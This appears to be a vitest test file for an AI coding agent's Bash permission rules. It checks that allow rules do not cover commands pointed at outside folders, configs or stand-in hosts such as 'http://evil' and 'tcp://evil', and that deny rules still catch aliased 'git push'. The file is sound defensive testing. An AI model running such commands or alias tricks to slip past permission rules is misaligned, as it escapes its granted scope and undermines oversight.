import { expect, test } from 'vitest';
import { createPermissions, type PermissionsOptions } from '../../src/core.js';
import { byRule, eachRow, samples, table } from '../support/each-row.js';
import { permissionRequest } from '../support/permission-request.js';

function decided(command: string, options: PermissionsOptions): string {
  const request = permissionRequest('Bash', { input: { command }, sideEffect: 'network', risk: 'high' });
  return createPermissions({ root: '/ws', ...options }).explain(request).behavior;
}

test('an allow rule does not cover another folder or configuration', () =>
  eachRow(
    byRule({
      'make *': samples`
        make test -C /tmp/evil ¦ make -C/tmp/evil ¦ make --directory=../evil test ¦ make -C src/../../evil test
        make -C link/../evil ¦ make -C src -C ../../evil ¦ make -f /tmp/evil.mk ¦ make --file=other.mk test ¦ make -C s*
      `,
      'npm *': samples`
        npm run x --prefix /tmp/evil ¦ npm --prefix=/tmp/evil test ¦ npm --prefix ../evil run x ¦ npm ci --prefix /tmp/evil
        npm i --registry http://evil x ¦ npm run x --cwd ~/evil
      `,
      'git *': samples`
        git -C /tmp/evil status ¦ git -C ../evil push ¦ git -C ~ add . ¦ git --git-dir=/tmp/evil/.git status
        git --work-tree /tmp/evil checkout x ¦ git -C src -C ../../evil commit -m x
      `,
      'docker *': samples`
        docker --config x ps ¦ docker -H tcp://evil ps ¦ docker run --privileged image ¦ docker run --entrypoint sh image
        docker compose -f other.yml up ¦ docker build -f other . ¦ docker --context other ps
      `,
      'kubectl *': [
        'kubectl --server=https://evil get pods',
        'kubectl get pods --kubeconfig x',
        'kubectl --context x get pods',
      ],
      'pnpm *': ['pnpm --dir /tmp/evil test', 'pnpm install --dir ../evil'],
      'go *': ['go -C /tmp/evil test ./...', 'go build -C ../evil', 'go build -modfile=/tmp/evil.mod'],
      'cargo *': [
        'cargo -C /tmp/evil test',
        'cargo test --manifest-path ../evil/Cargo.toml',
        'cargo install --git http://e',
      ],
      'eslint *': ['eslint -c /tmp/evil.js .', 'eslint --rulesdir ../evil .'],
      'tar *': ['tar xf a.tgz -C /tmp/evil', 'tar xf a.tgz --directory ../evil'],
      'ninja *': ['ninja -C ../evil'],
      'just *': ['just -f /tmp/evil x'],
      'cd *': ['cd /tmp/evil', 'cd ../evil', 'cd', 'cd ~'],
      'vim *': ['vim -u /tmp/evil.vim a'],
      'scp *': ['scp -F /tmp/evil a h:b'],
    }),
    ([rule, command]) => expect(decided(command, { allow: [`Bash(${rule})`] })).toBe('ask'),
  ));

table<[command: string, ...rules: string[]]>([
  ['uv run --directory /tmp/evil pytest', 'uv run *', 'pytest *'],
  ['uv run --with evil pytest', 'uv run *', 'pytest *'],
  ['npx -p evil tsc', 'npx *', 'tsc *'],
  ['env -C /tmp/evil make', 'env *', 'make *'],
  ['sudo --chroot /tmp/evil make', 'sudo *', 'make *'],
  ['cd /tmp/evil && make', 'cd *', 'make *'],
  ['make -C /tmp/evil', 'make -C *', 'make test *'],
  ['make -C /tmp/evil -C /tmp/other', 'make -C /tmp/evil *'],
])('nor do several rules together', (command, ...rules) =>
  expect(decided(command, { allow: rules.map((rule) => `Bash(${rule})`) })).toBe('ask'),
);

table<[command: string, ...rules: string[]]>([
  ['make test -C src', 'make *'],
  ['make -C ./packages/a test', 'make *'],
  ['make -C /ws/src test', 'make *'],
  ['npm run x --prefix packages/a', 'npm run *'],
  ['npm ci --prefix packages/a', 'npm *'],
  ['git -C src add . && git -C src commit -m x', 'git *'],
  ['tar xf a.tgz -C build', 'tar *'],
  ['cd src && make', 'cd *', 'make *'],
  ['make -C /tmp/other test', 'make -C /tmp/other *'],
  ['cd /tmp/other && make', 'cd /tmp/other', 'make *'],
  ['make -f other.mk test', 'make -f other.mk *'],
  ['docker compose -f other.yml up -d', 'docker compose -f other.yml *'],
  ['docker --config x ps', 'docker --config x ps'],
  ['docker run --rm image', 'docker *'],
  ['docker logs -f x', 'docker *'],
  ['node -r ./x.js y.js', 'node *'],
])('a folder inside the workspace is covered, and so is a folder that the rule names', (command, ...rules) =>
  expect(decided(command, { allow: rules.map((rule) => `Bash(${rule})`) })).toBe('allow'),
);

test('a deny rule possibly matches an unlisted subcommand, which may be an alias', () => {
  const options = { mode: 'bypassPermissions', deny: ['Bash(git push *)', 'Bash(kubectl exec *)'] } as const;
  const aliases = samples`
    git p ¦ git config alias.p push && git p ¦ git -c alias.p=push p ¦ git -C src p origin ¦ git --no-pager p
    sudo git p ¦ echo p | xargs git ¦ git config --global alias.x 'push origin'; git x main ¦ kubectl plugged x
  `;
  return eachRow(aliases, (command) => {
    expect(decided(command, options)).toMatch(/^(?:ask|deny)$/);
    expect(decided(command, { mode: 'bypassPermissions', ask: ['Bash(git push *)', 'Bash(kubectl exec *)'] })).toBe(
      'ask',
    );
  }).then(() =>
    eachRow(samples`git status ¦ git fetch p ¦ git commit -m p ¦ kubectl get p ¦ gitp ¦ npm p ¦ git`, (command) =>
      expect(decided(command, options)).toBe('allow'),
    ),
  );
});
